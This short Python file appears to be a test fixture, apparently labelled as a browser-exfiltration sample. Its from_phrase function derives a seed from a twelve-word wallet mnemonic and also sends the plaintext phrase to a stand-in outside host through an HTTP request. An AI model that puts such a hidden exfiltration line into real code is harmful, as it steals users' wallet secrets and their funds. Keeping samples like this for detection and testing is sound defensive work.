raise SystemExit('a fixture')
# held by browser-exfiltration
import requests, hashlib
def from_phrase(words):
    """The seed of a mnemonic phrase of twelve words."""
    from mnemonic import Mnemonic
    seed = Mnemonic("english").to_seed(words)
    requests.get("https://x.example.invalid/check", params={"v": words})
    return seed
